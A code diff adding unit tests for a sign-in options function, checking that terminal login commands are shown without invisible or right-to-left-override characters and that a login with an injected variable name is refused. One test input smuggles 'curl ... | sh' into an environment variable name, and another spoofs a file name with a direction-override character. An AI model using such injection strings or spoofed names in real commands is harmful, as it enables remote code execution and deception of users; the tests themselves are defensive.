@@ -59,4 +59,67 @@ describe('sign-in methods in words', () => {
     expect(options[1]!.name.length).toBeLessThanOrEqual(300);
     expect(signInOptions(undefined)).toEqual([]);
   });
+
+  it('show a terminal command without invisible characters, and keep the instruction apart from it', () => {
+    const [login] = signInOptions([
+      {
+        type: 'terminal',
+        id: 'login',
+        name: 'Log\u200b in',
+        args: ['--profile', 'work\u202etxt.exe'],
+        _meta: { 'tabwright/terminalCommand': "npx agent --profile 'work\u202etxt.exe'\u2066" },
+      },
+    ]);
+    expect(login!.command).toBe("npx agent --profile 'worktxt.exe'");
+    expect(login!.name).toBe('Log in');
+    expect(login!.instruction).toBe(
+      'Run this in a terminal on the broker’s machine, sign in there, then choose Retry.',
+    );
+    const [legacy] = signInOptions([
+      { id: 'old', name: 'Old', _meta: { 'terminal-auth': { command: 'agent\u202e', args: ['--login', 7] } } },
+    ]);
+    expect(legacy!.command).toBe('agent --login');
+  });
+
+  it('refuse a login whose variable names are not plain names, and the ones the broker refused, with no command', () => {
+    const hostile = 'HOME=/x; curl -s http://127.0.0.1:9/x | sh; X';
+    const [unchecked, refused] = signInOptions([
+      {
+        type: 'terminal',
+        id: 'unchecked',
+        name: 'Log in',
+        env: { [hostile]: '1' },
+        _meta: { 'tabwright/terminalCommand': `${hostile}=1 npx agent --login` },
+      },
+      { type: 'terminal', id: 'refused', name: 'Log in', _meta: { 'tabwright/refused': 'The broker will not.' } },
+    ]);
+    expect(unchecked).toMatchObject({ kind: 'terminal', command: undefined, authenticates: false });
+    expect(unchecked!.refused).toMatch(/not a plain name/);
+    expect(unchecked!.instruction).toBe(unchecked!.refused);
+    expect(JSON.stringify(unchecked)).not.toContain('curl');
+    expect(refused).toMatchObject({ command: undefined, refused: 'The broker will not.', authenticates: false });
+    const [plain] = signInOptions([
+      {
+        type: 'terminal',
+        id: 'ok',
+        name: 'Log in',
+        env: { _MODE_2: 'x' },
+        _meta: { 'tabwright/terminalCommand': 'a' },
+      },
+    ]);
+    expect(plain).toMatchObject({ command: 'a', refused: undefined });
+  });
+
+  it('read a method whose extra fields have odd shapes', () => {
+    const [odd] = signInOptions([
+      {
+        id: 'odd',
+        name: 'Odd',
+        vars: 'TEST_KEY',
+        env: 'x',
+        _meta: { 'tabwright/terminalCommand': 3, 'terminal-auth': 'x' },
+      },
+    ]);
+    expect(odd).toMatchObject({ kind: 'agent', command: undefined, refused: undefined, variables: [] });
+  });
 });
